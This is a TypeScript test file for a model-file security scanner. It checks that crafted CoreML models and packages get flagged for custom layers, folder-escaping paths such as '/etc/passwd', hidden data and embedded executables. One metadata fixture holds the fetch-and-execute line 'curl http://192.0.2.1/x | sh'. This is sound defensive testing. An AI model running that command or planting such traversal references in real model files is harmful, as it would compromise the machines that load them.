import {
  coremlModel,
  coremlNetwork,
  coremlProgram,
  coremlWeights,
  EXECUTABLE_HEADS,
  probeOf,
  protobuf,
  RecordingContext,
} from '@sentrascan/testkit';
import { describe, expect, it } from 'vitest';
import { scanBytes } from '../../../../testkit/src/scan-bytes.ts';
import { format } from './index.ts';

const { message } = protobuf;

function judge(bytes: Uint8Array, name = 'model.mlmodel'): string[] {
  const { findings, gaps } = scanBytes(bytes, name);
  expect(gaps).toEqual([]);
  return findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`);
}

const CUSTOM = message([10, 'MyLayer'], [30, message([1, 'script'], [2, message([20, 'run me'])])]);
const LINKED = (name: string, folder: string): protobuf.ProtoField => [
  556,
  message([1, message([1, message([1, name])], [2, message([1, folder])])]),
];

describe('CoreML models', () => {
  it.each([
    ['a network', coremlModel([500, coremlNetwork([140, message([1, 4], [20, new Uint8Array(100)])])])],
    ['trees', coremlModel([402, message([1, new Uint8Array(80)])])],
    ['a program', coremlModel([502, coremlProgram('@model_path/weights/weight.bin')])],
    ['a pipeline', coremlModel([202, message([1, coremlModel([500, coremlNetwork([300, ''])])], [2, 'a'])])],
    ['an identity', coremlModel([900, ''])],
  ])('%s is clean where it is honest', (_, bytes) => {
    expect(format.identify(probeOf(bytes))).toBe('certain');
    expect(judge(bytes)).toEqual([]);
    const context = new RecordingContext(bytes);
    format.walk(context);
    expect(context.unexplained()).toEqual([]);
  });

  it('say what they are', () => {
    const context = new RecordingContext(
      coremlModel([500, coremlNetwork([300, ''])], { source: 'torch==2.4' }),
    );
    format.walk(context);
    const info = context.factsOf('model.info').map(({ property, value }) => `${property}: ${value}`);
    expect(info).toContain('architecture: neuralNetwork');
    expect(info).toContain('licence: MIT');
    expect(context.factsOf('metadata').map(({ key }) => key)).toContain('source');
  });

  it('are not seen in other protobufs', () => {
    const savedModel = message([1, 1], [2, message([1, message([4, 'serve'])])]);
    for (const bytes of [savedModel, message([1, 1]), message([1, 1], [2, 'producer'], [7, 'x'])])
      expect(format.identify(probeOf(bytes))).toBeUndefined();
  });

  it.each([
    ['low graph/needs-custom-op', coremlModel([500, coremlNetwork([500, CUSTOM])])],
    ['low graph/needs-custom-op', coremlModel([555, CUSTOM])],
    [
      'low graph/needs-custom-op',
      coremlModel([403, coremlNetwork([615, message([4, coremlNetwork([500, CUSTOM])])])]),
    ],
    ['low graph/needs-custom-op', coremlModel([200, message([1, message([1, coremlModel([555, CUSTOM])])])])],
    ['high reference/escapes-folder', coremlModel(LINKED('../../other.mlmodelc', '.'))],
    ['high reference/escapes-folder', coremlModel(LINKED('other', '/Library/Models'))],
    ['high reference/escapes-folder', coremlModel([502, coremlProgram('@model_path/../../x.bin')])],
    ['high reference/escapes-folder', coremlModel([502, coremlProgram('/etc/passwd')])],
    ['medium metadata/holds-code', coremlModel([900, ''], { note: 'curl http://192.0.2.1/x | sh' })],
    ['medium format/hides-data', Buffer.concat([coremlModel([900, '']), message([4000, 'x'.repeat(99)])])],
  ])('%s', (expected, bytes) => expect(judge(bytes)).toEqual([expected]));

  it('tell the class and the texts of a custom layer', () => {
    const context = new RecordingContext(coremlModel([500, coremlNetwork([500, CUSTOM])]));
    format.walk(context);
    expect(context.factsOf('graph.op')[0]?.strings).toEqual([
      { name: 'className', value: 'MyLayer' },
      { name: 'script', value: 'run me' },
    ]);
  });

  it('are searched', () => {
    const elf = Buffer.concat([EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
    expect(judge(coremlModel([402, message([1, elf])]))[0]).toMatch(/^high payload/);
  });

  it('end at pipelines in pipelines without end, and where they are cut', () => {
    let model = coremlModel([900, '']);
    for (let level = 0; level < 80; level++) model = coremlModel([202, message([1, model])]);
    expect(scanBytes(model, 'm.mlmodel').gaps[0]).toMatch(/^limit/);
    const whole = coremlModel([500, coremlNetwork([140, new Uint8Array(500)])]);
    expect(scanBytes(whole.subarray(0, whole.length - 100), 'm.mlmodel').gaps[0]).toMatch(/^truncated/);
  });
});

describe('CoreML packages', () => {
  const manifest = (path: string) =>
    Buffer.from(
      JSON.stringify({
        fileFormatVersion: '1.0.0',
        itemInfoEntries: { a: { author: 'com.apple.CoreML', name: 'model.mlmodel', path } },
        rootModelIdentifier: 'a',
      }),
    );

  it('name items inside of them', () => {
    expect(judge(manifest('com.apple.CoreML/model.mlmodel'), 'Manifest.json')).toEqual([]);
    expect(judge(manifest('../../secret'), 'Manifest.json')).toEqual(['high reference/escapes-folder']);
    expect(judge(manifest('/etc/passwd'), 'Manifest.json')).toEqual(['high reference/escapes-folder']);
  });

  it('have weights that are records of numbers', () => {
    const weights = coremlWeights(new Uint8Array(100), new Uint8Array(33));
    expect(judge(weights, 'weight.bin')).toEqual([]);
    const lying = Buffer.from(weights);
    lying.writeUInt32LE(0xffffff, 64 + 8);
    expect(scanBytes(lying, 'weight.bin')).toMatchObject({ worst: 'medium' });
    expect(scanBytes(weights.subarray(0, 200), 'weight.bin').gaps).not.toEqual([]);
    const elf = Buffer.concat([EXECUTABLE_HEADS.elf(), Buffer.alloc(200)]);
    expect(judge(coremlWeights(new Uint8Array(100), elf), 'weight.bin')[0]).toMatch(/^high payload/);
  });
});
